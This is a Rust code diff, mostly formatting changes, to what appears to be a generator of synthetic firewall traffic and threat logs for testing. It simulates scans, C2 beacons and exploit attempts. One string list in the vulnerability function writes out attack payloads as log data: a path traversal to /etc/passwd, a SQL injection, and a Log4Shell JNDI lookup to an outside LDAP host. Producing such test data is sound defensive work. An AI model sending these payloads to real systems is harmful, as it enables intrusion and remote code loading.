@@ -6,7 +6,7 @@ use std::net::Ipv4Addr;
 
 use super::catalog::{self as cat, App, Signature};
 use super::lines::{self, Session};
-use super::rand_ext::{below, between, chance, one, pick};
+use super::rand_ext::{below, between, chance, one, one_str, pick};
 use super::world::Outside;
 use super::{Generator, LineKind, ThreatSubtype, TrafficSubtype};
 
@@ -133,7 +133,9 @@ pub(crate) fn next(g: &mut Generator) -> Meta {
         let total = weights.iter().sum();
         let (p, d) = match THREAT_MIX[pick(&mut g.rng, &weights, total)].0 {
             ThreatSubtype::Virus => virus(g, ThreatSubtype::Virus, cat::VIRUS_SIGS),
-            ThreatSubtype::WildfireVirus => virus(g, ThreatSubtype::WildfireVirus, cat::WILDFIRE_VIRUS_SIGS),
+            ThreatSubtype::WildfireVirus => {
+                virus(g, ThreatSubtype::WildfireVirus, cat::WILDFIRE_VIRUS_SIGS)
+            }
             ThreatSubtype::Spyware => spyware(g),
             ThreatSubtype::Vulnerability => vulnerability(g),
             ThreatSubtype::File => file(g),
@@ -167,11 +169,25 @@ fn ephemeral(g: &mut Generator) -> u16 {
 
 fn pod_end(g: &Generator, i: usize, port: u16) -> End {
     let ip = g.pods.get(i).map_or(Ipv4Addr::UNSPECIFIED, |p| p.ip);
-    End { ip, port, zone: cat::ZONE_PODS, iface: cat::IF_PODS, loc: cat::PRIVATE_10, pod: Some(i) }
+    End {
+        ip,
+        port,
+        zone: cat::ZONE_PODS,
+        iface: cat::IF_PODS,
+        loc: cat::PRIVATE_10,
+        pod: Some(i),
+    }
 }
 
 fn outside_end(o: Outside, port: u16) -> End {
-    End { ip: o.ip, port, zone: cat::ZONE_INTERNET, iface: cat::IF_INTERNET, loc: o.country, pod: None }
+    End {
+        ip: o.ip,
+        port,
+        zone: cat::ZONE_INTERNET,
+        iface: cat::IF_INTERNET,
+        loc: o.country,
+        pod: None,
+    }
 }
 
 fn any_pod(g: &mut Generator) -> usize {
@@ -197,8 +213,26 @@ fn egress_nat(g: &mut Generator) -> Option<(Ipv4Addr, u16)> {
     }
 }
 
-fn plan(src: End, dst: End, rule: usize, app: &'static App, action: &'static str, flags: &'static str) -> Plan {
-    Plan { src, dst, nat: None, rule, app, proto: app.proto, repeat: 1, flags, action, sessionless: false }
+fn plan(
+    src: End,
+    dst: End,
+    rule: usize,
+    app: &'static App,
+    action: &'static str,
+    flags: &'static str,
+) -> Plan {
+    Plan {
+        src,
+        dst,
+        nat: None,
+        rule,
+        app,
+        proto: app.proto,
+        repeat: 1,
+        flags,
+        action,
+        sessionless: false,
+    }
 }
 
 fn weighted<T: Copy>(g: &mut Generator, items: &[(T, u32)]) -> T {
@@ -224,7 +258,12 @@ fn swap(p: &mut Plan) {
 fn traffic(g: &mut Generator) -> (Plan, Detail) {
     let subtype = weighted(
         g,
-        &[(TrafficSubtype::End, 80), (TrafficSubtype::Start, 8), (TrafficSubtype::Drop, 9), (TrafficSubtype::Deny, 3)],
+        &[
+            (TrafficSubtype::End, 80),
+            (TrafficSubtype::Start, 8),
+            (TrafficSubtype::Drop, 9),
+            (TrafficSubtype::Deny, 3),
+        ],
     );
     let mut p = match subtype {
         TrafficSubtype::Drop => dropped(g),
@@ -236,27 +275,57 @@ fn traffic(g: &mut Generator) -> (Plan, Detail) {
         },
     };
     let udp = p.proto != "tcp";
-    let (bytes_sent, bytes_received, packets_sent, packets_received, elapsed, end_reason) = match subtype {
-        TrafficSubtype::Start => {
-            if chance(&mut g.rng, 0.2) {
-                p.app = if chance(&mut g.rng, 0.5) { &cat::INCOMPLETE } else { &cat::INSUFFICIENT };
+    let (bytes_sent, bytes_received, packets_sent, packets_received, elapsed, end_reason) =
+        match subtype {
+            TrafficSubtype::Start => {
+                if chance(&mut g.rng, 0.2) {
+                    p.app = if chance(&mut g.rng, 0.5) {
+                        &cat::INCOMPLETE
+                    } else {
+                        &cat::INSUFFICIENT
+                    };
+                }
+                let sent = between(&mut g.rng, 66, 600);
+                (
+                    sent,
+                    between(&mut g.rng, 0, 600),
+                    1 + below(&mut g.rng, 2),
+                    below(&mut g.rng, 2),
+                    0,
+                    "n/a",
+                )
             }
-            let sent = between(&mut g.rng, 66, 600);
-            (sent, between(&mut g.rng, 0, 600), 1 + below(&mut g.rng, 2), below(&mut g.rng, 2), 0, "n/a")
-        }
-        TrafficSubtype::End => {
-            let sent = between(&mut g.rng, 200, 4_000) * between(&mut g.rng, 1, 8);
-            let scale = between(&mut g.rng, 10, 21);
-            let received = between(&mut g.rng, 100, 1 << scale);
-            let reason = if udp { one(&mut g.rng, cat::END_REASONS_UDP) } else { one(&mut g.rng, cat::END_REASONS_TCP) };
-            (sent, received, sent / 700 + 1, received / 1200 + 1, below(&mut g.rng, 120), *reason)
-        }
-        TrafficSubtype::Drop => (between(&mut g.rng, 54, 78), 0, 1, 0, 0, "policy-deny"),
-        TrafficSubtype::Deny => {
-            let sent = between(&mut g.rng, 300, 2_000);
-            (sent, between(&mut g.rng, 60, 800), 3 + below(&mut g.rng, 4), 2 + below(&mut g.rng, 3), below(&mut g.rng, 3), "policy-deny")
-        }
-    };
+            TrafficSubtype::End => {
+                let sent = between(&mut g.rng, 200, 4_000) * between(&mut g.rng, 1, 8);
+                let scale = between(&mut g.rng, 10, 21);
+                let received = between(&mut g.rng, 100, 1 << scale);
+                let reason = if udp {
+                    one(&mut g.rng, cat::END_REASONS_UDP)
+                } else {
+                    one(&mut g.rng, cat::END_REASONS_TCP)
+                };
+                (
+                    sent,
+                    received,
+                    sent / 700 + 1,
+                    received / 1200 + 1,
+                    below(&mut g.rng, 120),
+                    *reason,
+                )
+            }
+            TrafficSubtype::Drop => (between(&mut g.rng, 54, 78), 0, 1, 0, 0, "policy-deny"),
+            TrafficSubtype::Deny => {
+                let sent = between(&mut g.rng, 300, 2_000);
+                (
+                    sent,
+                    between(&mut g.rng, 60, 800),
+                    3 + below(&mut g.rng, 4),
+                    2 + below(&mut g.rng, 3),
+                    below(&mut g.rng, 3),
+                    "policy-deny",
+                )
+            }
+        };
     let category = if p.app.name == "ssl" || p.app.name == "web-browsing" {
         if p.dst.pod.is_none() && p.dst.zone == cat::ZONE_INTERNET {
             weighted_url_category(g).name
@@ -277,7 +346,11 @@ fn traffic(g: &mut Generator) -> (Plan, Detail) {
         elapsed,
         category,
         end_reason,
-        action_source: if subtype == TrafficSubtype::Deny { "from-application" } else { "from-policy" },
+        action_source: if subtype == TrafficSubtype::Deny {
+            "from-application"
+        } else {
+            "from-policy"
+        },
     };
     (p, Detail::Traffic(detail))
 }
@@ -290,8 +363,18 @@ fn egress(g: &mut Generator) -> Plan {
     let srv = server(g);
     if g.pods[i].workload == super::pods::COREDNS {
         // CoreDNS forwards to the upstream resolvers.
-        let upstream = if chance(&mut g.rng, 0.5) { Ipv4Addr::new(8, 8, 8, 8) } else { Ipv4Addr::new(1, 1, 1, 1) };
-        let dst = outside_end(Outside { ip: upstream, country: "United States" }, 53);
+        let upstream = if chance(&mut g.rng, 0.5) {
+            Ipv4Addr::new(8, 8, 8, 8)
+        } else {
+            Ipv4Addr::new(1, 1, 1, 1)
+        };
+        let dst = outside_end(
+            Outside {
+                ip: upstream,
+                country: "United States",
+            },
+            53,
+        );
         return plan(src, dst, cat::RULE_DNS, &cat::DNS, "allow", "0x400019");
     }
     let (app, port, rule): (&'static App, u16, usize) = weighted(
@@ -310,7 +393,14 @@ fn egress(g: &mut Generator) -> Plan {
     if app.proto == "icmp" {
         src.port = 0;
     }
-    let mut p = plan(src, outside_end(srv, port), rule, app, "allow", *one(&mut g.rng, &["0x400019", "0x400053", "0x1b", "0x19"]));
+    let mut p = plan(
+        src,
+        outside_end(srv, port),
+        rule,
+        app,
+        "allow",
+        one_str(&mut g.rng, &["0x400019", "0x400053", "0x1b", "0x19"]),
+    );
     p.nat = egress_nat(g);
     p
 }
@@ -339,7 +429,14 @@ fn east_west(g: &mut Generator) -> Plan {
     let sport = ephemeral(g);
     let src = pod_end(g, client_pod, sport);
     let dst = pod_end(g, target, wl.port);
-    plan(src, dst, rule, app, "allow", *one(&mut g.rng, &["0x19", "0x1b", "0x400019"]))
+    plan(
+        src,
+        dst,
+        rule,
+        app,
+        "allow",
+        one_str(&mut g.rng, &["0x19", "0x1b", "0x400019"]),
+    )
 }
 
 /// An internet client reaching an exposed service.
@@ -355,14 +452,23 @@ fn inbound(g: &mut Generator) -> Plan {
     dst.zone = cat::ZONE_DMZ;
     dst.iface = cat::IF_DMZ;
     let app = wl.app.unwrap_or(&cat::SSL);
-    plan(outside_end(c, sport), dst, cat::RULE_INBOUND, app, "allow", "0x400053")
+    plan(
+        outside_end(c, sport),
+        dst,
+        cat::RULE_INBOUND,
+        app,
+        "allow",
+        "0x400053",
+    )
 }
 
 /// A session the policy dropped before any application was seen: mostly
 /// internet scanners knocking on pod ports, sometimes pods trying odd
 /// ports outbound.
 fn dropped(g: &mut Generator) -> Plan {
-    const PORTS: &[u16] = &[22, 23, 445, 3389, 2375, 6379, 10250, 5900, 8080, 9200, 27017];
+    const PORTS: &[u16] = &[
+        22, 23, 445, 3389, 2375, 6379, 10250, 5900, 8080, 9200, 27017,
+    ];
     let port = *one(&mut g.rng, PORTS);
     let action = *one(&mut g.rng, &["deny", "deny", "drop", "reset-both"]);
     let mut p = if chance(&mut g.rng, 0.7) {
@@ -370,13 +476,27 @@ fn dropped(g: &mut Generator) -> Plan {
         let sport = ephemeral(g);
         let target = any_pod(g);
         let dst = pod_end(g, target, port);
-        plan(outside_end(c, sport), dst, cat::RULE_INTERZONE, &cat::NOT_APPLICABLE, action, "0x0")
+        plan(
+            outside_end(c, sport),
+            dst,
+            cat::RULE_INTERZONE,
+            &cat::NOT_APPLICABLE,
+            action,
+            "0x0",
+        )
     } else {
         let i = any_pod(g);
         let sport = ephemeral(g);
         let src = pod_end(g, i, sport);
         let dst = outside_end(server(g), *one(&mut g.rng, &[25, 6667, 4444, 1337, 31337]));
-        plan(src, dst, cat::RULE_DENY_EGRESS, &cat::NOT_APPLICABLE, action, "0x100000")
+        plan(
+            src,
+            dst,
+            cat::RULE_DENY_EGRESS,
+            &cat::NOT_APPLICABLE,
+            action,
+            "0x100000",
+        )
     };
     p.proto = "tcp";
     p.sessionless = true;
@@ -388,10 +508,25 @@ fn denied(g: &mut Generator) -> Plan {
     let i = any_pod(g);
     let sport = ephemeral(g);
     let src = pod_end(g, i, sport);
-    let (app, port): (&'static App, u16) =
-        *one(&mut g.rng, &[(&cat::BITTORRENT, 6881), (&cat::SSH, 22), (&cat::FTP, 21), (&cat::UNKNOWN_TCP, 4444), (&cat::SMTP, 25)]);
+    let (app, port): (&'static App, u16) = *one(
+        &mut g.rng,
+        &[
+            (&cat::BITTORRENT, 6881),
+            (&cat::SSH, 22),
+            (&cat::FTP, 21),
+            (&cat::UNKNOWN_TCP, 4444),
+            (&cat::SMTP, 25),
+        ],
+    );
     let action = *one(&mut g.rng, &["deny", "reset-both"]);
-    plan(src, outside_end(server(g), port), cat::RULE_DENY_EGRESS, app, action, "0x400019")
+    plan(
+        src,
+        outside_end(server(g), port),
+        cat::RULE_DENY_EGRESS,
+        app,
+        action,
+        "0x400019",
+    )
 }
 
 // --- THREAT ----------------------------------------------------------------
@@ -413,7 +548,11 @@ fn url(g: &mut Generator) -> (Plan, Detail) {
     let mut p = egress_web(g);
     let category = weighted_url_category(g);
     let awkward = !category.blocked && chance(&mut g.rng, 0.03);
-    let u = if awkward { one(&mut g.rng, cat::AWKWARD_URLS) } else { one(&mut g.rng, category.urls) };
+    let u = if awkward {
+        one(&mut g.rng, cat::AWKWARD_URLS)
+    } else {
+        one(&mut g.rng, category.urls)
+    };
     g.misc.push_str(u);
     p.action = if category.blocked {
         "block-url"
@@ -422,16 +561,44 @@ fn url(g: &mut Generator) -> (Plan, Detail) {
     } else {
         "alert"
     };
-    p.flags = *one(&mut g.rng, &["0x403000", "0x408000", "0x40b000", "0x400000"]);
+    p.flags = *one(
+        &mut g.rng,
+        &["0x403000", "0x408000", "0x40b000", "0x400000"],
+    );
     let t = ThreatPlan {
         category: category.name,
-        content_type: *one(&mut g.rng, &["text/html", "application/json", "application/octet-stream", ""]),
+        content_type: one_str(
+            &mut g.rng,
+            &[
+                "text/html",
+                "application/json",
+                "application/octet-stream",
+                "",
+            ],
+        ),
         url_index: below(&mut g.rng, 4) as u32,
-        user_agent: *one(&mut g.rng, cat::USER_AGENTS),
-        referer: if chance(&mut g.rng, 0.1) { "https://www.shop.example/checkout?step=2,3" } else { "" },
-        http_method: if chance(&mut g.rng, 0.8) { "get" } else { "post" },
+        user_agent: one_str(&mut g.rng, cat::USER_AGENTS),
+        referer: if chance(&mut g.rng, 0.1) {
+            "https://www.shop.example/checkout?step=2,3"
+        } else {
+            ""
+        },
+        http_method: if chance(&mut g.rng, 0.8) {
+            "get"
+        } else {
+            "post"
+        },
         url_categories: category.list,
-        ..ThreatPlan::new(ThreatSubtype::Url, &cat::Signature { name: "", id: 9999, category: "unknown", severity: "informational" }, C2S)
+        ..ThreatPlan::new(
+            ThreatSubtype::Url,
+            &cat::Signature {
+                name: "",
+                id: 9999,
+                category: "unknown",
+                severity: "informational",
+            },
+            C2S,
+        )
     };
     (p, Detail::Threat(t))
 }
@@ -441,9 +608,20 @@ fn egress_web(g: &mut Generator) -> Plan {
     let i = any_pod(g);
     let sport = ephemeral(g);
     let src = pod_end(g, i, sport);
-    let (app, port): (&'static App, u16) = if chance(&mut g.rng, 0.7) { (&cat::SSL, 443) } else { (&cat::WEB_BROWSING, 80) };
+    let (app, port): (&'static App, u16) = if chance(&mut g.rng, 0.7) {
+        (&cat::SSL, 443)
+    } else {
+        (&cat::WEB_BROWSING, 80)
+    };
     let srv = server(g);
-    let mut p = plan(src, outside_end(srv, port), cat::RULE_EGRESS_WEB, app, "alert", "0x402000");
+    let mut p = plan(
+        src,
+        outside_end(srv, port),
+        cat::RULE_EGRESS_WEB,
+        app,
+        "alert",
+        "0x402000",
+    );
     p.nat = egress_nat(g);
     p
 }
@@ -454,9 +632,31 @@ fn c2(g: &mut Generator) -> (Plan, Detail) {
     let server = one(&mut g.rng, &g.world.c2).clone();
     let sport = ephemeral(g);
     let src = pod_end(g, pod, sport);
-    let dst = outside_end(Outside { ip: server.ip, country: server.country }, server.port);
-    let action = weighted(g, &[("reset-both", 65), ("drop", 15), ("alert", 12), ("reset-client", 4), ("reset-server", 4)]);
-    let mut p = plan(src, dst, cat::RULE_EGRESS_WEB, server.app, action, "0x402000");
+    let dst = outside_end(
+        Outside {
+            ip: server.ip,
+            country: server.country,
+        },
+        server.port,
+    );
+    let action = weighted(
+        g,
+        &[
+            ("reset-both", 65),
+            ("drop", 15),
+            ("alert", 12),
+            ("reset-client", 4),
+            ("reset-server", 4),
+        ],
+    );
+    let mut p = plan(
+        src,
+        dst,
+        cat::RULE_EGRESS_WEB,
+        server.app,
+        action,
+        "0x402000",
+    );
     p.nat = egress_nat(g);
     let inbound = chance(&mut g.rng, 0.25);
     if inbound {
@@ -464,11 +664,29 @@ fn c2(g: &mut Generator) -> (Plan, Detail) {
     }
     if chance(&mut g.rng, 0.4) {
         g.misc.push_str(&server.domain);
-        g.misc.push_str(*one(&mut g.rng, &["/jquery-3.3.1.min.js", "/submit.php", "/api/v1/beacon", "/pixel.gif", "/"]));
+        g.misc.push_str(one_str(
+            &mut g.rng,
+            &[
+                "/jquery-3.3.1.min.js",
+                "/submit.php",
+                "/api/v1/beacon",
+                "/pixel.gif",
+                "/",
+            ],
+        ));
     }
     g.name.push_str(server.threat_name);
-    let sig = Signature { name: server.threat_name, id: server.threat_id, category: "command-and-control", severity: "critical" };
-    let t = ThreatPlan::new(ThreatSubtype::Spyware, &sig, if inbound { S2C } else { C2S });
+    let sig = Signature {
+        name: server.threat_name,
+        id: server.threat_id,
+        category: "command-and-control",
+        severity: "critical",
+    };
+    let t = ThreatPlan::new(
+        ThreatSubtype::Spyware,
+        &sig,
+        if inbound { S2C } else { C2S },
+    );
     (p, Detail::Threat(t))
 }
 
@@ -484,31 +702,65 @@ fn spyware(g: &mut Generator) -> (Plan, Detail) {
                 let d = *one(&mut g.rng, &g.coredns);
                 pod_end(g, d, 53)
             }
-            None => outside_end(Outside { ip: Ipv4Addr::new(8, 8, 8, 8), country: "United States" }, 53),
+            None => outside_end(
+                Outside {
+                    ip: Ipv4Addr::new(8, 8, 8, 8),
+                    country: "United States",
+                },
+                53,
+            ),
         };
         let action = weighted(g, &[("sinkhole", 60), ("alert", 25), ("drop", 15)]);
         let p = plan(src, dst, cat::RULE_DNS, &cat::DNS, action, "0x80402000");
         g.name.push_str("Suspicious DNS Query (generic:");
         g.name.push_str(domain);
         g.name.push(')');
-        let sig = Signature { name: "", id, category: "dns", severity: "medium" };
-        return (p, Detail::Threat(ThreatPlan::new(ThreatSubtype::Spyware, &sig, C2S)));
+        let sig = Signature {
+            name: "",
+            id,
+            category: "dns",
+            severity: "medium",
+        };
+        return (
+            p,
+            Detail::Threat(ThreatPlan::new(ThreatSubtype::Spyware, &sig, C2S)),
+        );
     }
     let sig = one(&mut g.rng, cat::SPYWARE_SIGS);
     let mut p = egress_web(g);
-    p.action = weighted(g, &[("reset-both", 40), ("alert", 30), ("drop", 20), ("reset-server", 10)]);
+    p.action = weighted(
+        g,
+        &[
+            ("reset-both", 40),
+            ("alert", 30),
+            ("drop", 20),
+            ("reset-server", 10),
+        ],
+    );
     let dir = if chance(&mut g.rng, 0.8) { C2S } else { S2C };
     if dir == S2C {
         swap(&mut p);
     }
     g.name.push_str(sig.name);
-    (p, Detail::Threat(ThreatPlan::new(ThreatSubtype::Spyware, sig, dir)))
+    (
+        p,
+        Detail::Threat(ThreatPlan::new(ThreatSubtype::Spyware, sig, dir)),
+    )
 }
 
 fn vulnerability(g: &mut Generator) -> (Plan, Detail) {
     let sig = one(&mut g.rng, cat::VULN_SIGS);
     g.name.push_str(sig.name);
-    let action = weighted(g, &[("reset-both", 40), ("reset-client", 15), ("reset-server", 15), ("alert", 20), ("drop", 10)]);
+    let action = weighted(
+        g,
+        &[
+            ("reset-both", 40),
+            ("reset-client", 15),
+            ("reset-server", 15),
+            ("alert", 20),
+            ("drop", 10),
+        ],
+    );
     let mut dir = C2S;
     let mut p = match sig.category {
         "brute-force" if sig.name.starts_with("SSH") => {
@@ -517,17 +769,32 @@ fn vulnerability(g: &mut Generator) -> (Plan, Detail) {
             let c = client(g);
             let sport = ephemeral(g);
             let dst = pod_end(g, target, 22);
-            let mut p = plan(outside_end(c, sport), dst, cat::RULE_INBOUND, &cat::SSH, action, "0x402400");
+            let mut p = plan(
+                outside_end(c, sport),
+                dst,
+                cat::RULE_INBOUND,
+                &cat::SSH,
+                action,
+                "0x402400",
+            );
             p.repeat = between(&mut g.rng, 2, 40) as u32;
             p
         }
         _ if sig.name.starts_with("Redis") || sig.name.starts_with("Microsoft RPC") => {
             // Lateral movement from one pod to another.
             let from = any_pod(g);
-            let to = if g.servers.is_empty() { any_pod(g) } else { *one(&mut g.rng, &g.servers) };
+            let to = if g.servers.is_empty() {
+                any_pod(g)
+            } else {
+                *one(&mut g.rng, &g.servers)
+            };
             let sport = ephemeral(g);
             let src = pod_end(g, from, sport);
-            let (app, port) = if sig.name.starts_with("Redis") { (&cat::REDIS, 6379) } else { (&cat::MSRPC, 135) };
+            let (app, port) = if sig.name.starts_with("Redis") {
+                (&cat::REDIS, 6379)
+            } else {
+                (&cat::MSRPC, 135)
+            };
             let dst = pod_end(g, to, port);
             plan(src, dst, cat::RULE_EAST_WEST, app, action, "0x2000")
         }
@@ -542,7 +809,11 @@ fn vulnerability(g: &mut Generator) -> (Plan, Detail) {
             p
         }
         _ => {
-            let target = if g.exposed.is_empty() { any_pod(g) } else { *one(&mut g.rng, &g.exposed) };
+            let target = if g.exposed.is_empty() {
+                any_pod(g)
+            } else {
+                *one(&mut g.rng, &g.exposed)
+            };
             let wl = g.pods[target].workload();
             let c = client(g);
             let sport = ephemeral(g);
@@ -553,12 +824,25 @@ fn vulnerability(g: &mut Generator) -> (Plan, Detail) {
             if chance(&mut g.rng, 0.6) {
                 // Rare path: a formatted write into the reused buffer is fine.
                 let _ = write!(g.misc, "{}", dst.ip);
-                g.misc.push_str(*one(
+                g.misc.push_str(one_str(
                     &mut g.rng,
-                    &["/cgi-bin/../../../../etc/passwd", "/api/login", "/?id=1' OR '1'='1", "/${jndi:ldap://45.137.21.9:1389/a}", "/actuator/env"],
+                    &[
+                        "/cgi-bin/../../../../etc/passwd",
+                        "/api/login",
+                        "/?id=1' OR '1'='1",
+                        "/${jndi:ldap://45.137.21.9:1389/a}",
+                        "/actuator/env",
+                    ],
                 ));
             }
-            plan(outside_end(c, sport), dst, cat::RULE_INBOUND, app, action, "0x402000")
+            plan(
+                outside_end(c, sport),
+                dst,
+                cat::RULE_INBOUND,
+                app,
+                action,
+                "0x402000",
+            )
         }
     };
     if sig.severity == "informational" {
@@ -566,7 +850,11 @@ fn vulnerability(g: &mut Generator) -> (Plan, Detail) {
     }
     let mut t = ThreatPlan::new(ThreatSubtype::Vulnerability, sig, dir);
     if p.app.name == "web-browsing" || p.app.name == "ssl" {
-        t.http_method = if chance(&mut g.rng, 0.7) { "get" } else { "post" };
+        t.http_method = if chance(&mut g.rng, 0.7) {
+            "get"
+        } else {
+            "post"
+        };
     }
     (p, Detail::Threat(t))
 }
@@ -577,7 +865,15 @@ fn virus(g: &mut Generator, subtype: ThreatSubtype, sigs: &'static [Signature]) 
     g.name.push_str(sig.name);
     push_file_name(g);
     let mut p = egress_web(g);
-    p.action = weighted(g, &[("reset-both", 50), ("drop", 15), ("alert", 25), ("deny", 10)]);
+    p.action = weighted(
+        g,
+        &[
+            ("reset-both", 50),
+            ("drop", 15),
+            ("alert", 25),
+            ("deny", 10),
+        ],
+    );
     swap(&mut p);
     let mut t = ThreatPlan::new(subtype, sig, S2C);
     t.digest = Some(below(&mut g.rng, g.world.file_hashes.len() as u64) as usize);
@@ -586,9 +882,10 @@ fn virus(g: &mut Generator, subtype: ThreatSubtype, sigs: &'static [Signature]) 
 
 fn push_file_name(g: &mut Generator) {
     if chance(&mut g.rng, 0.05) {
-        g.misc.push_str(*one(&mut g.rng, cat::AWKWARD_FILE_NAMES));
+        g.misc
+            .push_str(one_str(&mut g.rng, cat::AWKWARD_FILE_NAMES));
     } else {
-        g.misc.push_str(*one(&mut g.rng, cat::FILE_NAMES));
+        g.misc.push_str(one_str(&mut g.rng, cat::FILE_NAMES));
     }
 }
 
@@ -597,7 +894,14 @@ fn smtp(g: &mut Generator, action: &'static str) -> Plan {
     let i = any_pod(g);
     let sport = ephemeral(g);
     let src = pod_end(g, i, sport);
-    let mut p = plan(src, outside_end(server(g), 25), cat::RULE_EGRESS_SAAS, &cat::SMTP, action, "0x406000");
+    let mut p = plan(
+        src,
+        outside_end(server(g), 25),
+        cat::RULE_EGRESS_SAAS,
+        &cat::SMTP,
+        action,
+        "0x406000",
+    );
     p.nat = egress_nat(g);
     p
 }
@@ -606,7 +910,11 @@ fn smtp(g: &mut Generator, action: &'static str) -> Plan {
 fn file(g: &mut Generator) -> (Plan, Detail) {
     let sig = one(&mut g.rng, cat::FILE_SIGS);
     g.name.push_str(sig.name);
-    let action = if chance(&mut g.rng, 0.8) { "alert" } else { "deny" };
+    let action = if chance(&mut g.rng, 0.8) {
+        "alert"
+    } else {
+        "deny"
+    };
     if sig.name == "Email Link" || chance(&mut g.rng, 0.15) {
         let p = smtp(g, action);
         push_file_name(g);
@@ -653,9 +961,18 @@ fn wildfire(g: &mut Generator) -> (Plan, Detail) {
     g.misc.push_str(file);
     g.name.push_str(type_name);
     let mut p = egress_web(g);
-    p.action = if chance(&mut g.rng, 0.7) { "alert" } else { "allow" };
+    p.action = if chance(&mut g.rng, 0.7) {
+        "alert"
+    } else {
+        "allow"
+    };
     let dir = if chance(&mut g.rng, 0.85) { S2C } else { C2S };
-    let sig = Signature { name: type_name, id: type_id, category: "unknown", severity };
+    let sig = Signature {
+        name: type_name,
+        id: type_id,
+        category: "unknown",
+        severity,
+    };
     let mut t = ThreatPlan::new(ThreatSubtype::Wildfire, &sig, dir);
     t.category = verdict;
     t.digest = Some(below(&mut g.rng, g.world.file_hashes.len() as u64) as usize);
@@ -666,23 +983,45 @@ fn wildfire(g: &mut Generator) -> (Plan, Detail) {
 }
 
 /// Zone protection: scans, floods and malformed packets from the internet.
-fn zone_protection(g: &mut Generator, subtype: ThreatSubtype, sigs: &'static [Signature]) -> (Plan, Detail) {
+fn zone_protection(
+    g: &mut Generator,
+    subtype: ThreatSubtype,
+    sigs: &'static [Signature],
+) -> (Plan, Detail) {
     let sig = one(&mut g.rng, sigs);
     g.name.push_str(sig.name);
     let c = client(g);
-    let target = if g.exposed.is_empty() { any_pod(g) } else { *one(&mut g.rng, &g.exposed) };
+    let target = if g.exposed.is_empty() {
+        any_pod(g)
+    } else {
+        *one(&mut g.rng, &g.exposed)
+    };
     let mut dst = pod_end(g, target, 0);
     dst.zone = cat::ZONE_DMZ;
     dst.iface = cat::IF_DMZ;
     let proto = if sig.name.starts_with("UDP") {
         "udp"
-    } else if sig.name.starts_with("ICMP") || sig.name.starts_with("Ping") || sig.name == "Host Sweep" {
+    } else if sig.name.starts_with("ICMP")
+        || sig.name.starts_with("Ping")
+        || sig.name == "Host Sweep"
+    {
         "icmp"
     } else {
         "tcp"
     };
-    let action = if chance(&mut g.rng, 0.75) { "drop" } else { "alert" };
-    let mut p = plan(outside_end(c, 0), dst, cat::RULE_INTERZONE, &cat::NOT_APPLICABLE, action, "0x0");
+    let action = if chance(&mut g.rng, 0.75) {
+        "drop"
+    } else {
+        "alert"
+    };
+    let mut p = plan(
+        outside_end(c, 0),
+        dst,
+        cat::RULE_INTERZONE,
+        &cat::NOT_APPLICABLE,
+        action,
+        "0x0",
+    );
     p.proto = proto;
     p.sessionless = true;
     p.repeat = match subtype {
@@ -715,7 +1054,11 @@ fn emit(g: &mut Generator, p: Plan, detail: Detail, c2: bool) -> Meta {
     let step_seq = between(&mut g.rng, 1, 4);
     let delay = below(&mut g.rng, 1500) as i64;
     let Some(fw) = g.world.firewalls.get_mut(fw_index) else {
-        return Meta { kind: LineKind::Traffic(TrafficSubtype::End), c2, pod: None };
+        return Meta {
+            kind: LineKind::Traffic(TrafficSubtype::End),
+            c2,
+            pod: None,
+        };
     };
     fw.next_session += step_session;
     fw.next_seqno += step_seq;
@@ -725,7 +1068,11 @@ fn emit(g: &mut Generator, p: Plan, detail: Detail, c2: bool) -> Meta {
     let pod = p.src.pod.or(p.dst.pod);
     let (nat_src, nat_sport) = p.nat.unwrap_or((Ipv4Addr::UNSPECIFIED, 0));
     let nat_dport = if p.nat.is_some() { p.dst.port } else { 0 };
-    let nat_dst = if p.nat.is_some() { p.dst.ip } else { Ipv4Addr::UNSPECIFIED };
+    let nat_dst = if p.nat.is_some() {
+        p.dst.ip
+    } else {
+        Ipv4Addr::UNSPECIFIED
+    };
     let session = Session {
         fw,
         generated: g.now,
@@ -758,12 +1105,24 @@ fn emit(g: &mut Generator, p: Plan, detail: Detail, c2: bool) -> Meta {
     };
     let kind = match detail {
         Detail::Traffic(t) => {
-            lines::push_header(&mut g.buf, g.header, priority(""), session.received, &fw.name);
+            lines::push_header(
+                &mut g.buf,
+                g.header,
+                priority(""),
+                session.received,
+                &fw.name,
+            );
             lines::traffic(&mut g.buf, &session, &t);
             LineKind::Traffic(t.subtype)
         }
         Detail::Threat(t) => {
-            lines::push_header(&mut g.buf, g.header, priority(t.severity), session.received, &fw.name);
+            lines::push_header(
+                &mut g.buf,
+                g.header,
+                priority(t.severity),
+                session.received,
+                &fw.name,
+            );
             let threat = lines::Threat {
                 subtype: t.subtype,
                 misc: &g.misc,
@@ -773,7 +1132,10 @@ fn emit(g: &mut Generator, p: Plan, detail: Detail, c2: bool) -> Meta {
                 severity: t.severity,
                 direction: t.direction,
                 content_type: t.content_type,
-                file_digest: t.digest.and_then(|i| g.world.file_hashes.get(i)).map_or("", String::as_str),
+                file_digest: t
+                    .digest
+                    .and_then(|i| g.world.file_hashes.get(i))
+                    .map_or("", String::as_str),
                 cloud: t.cloud,
                 url_index: t.url_index,
                 user_agent: t.user_agent,
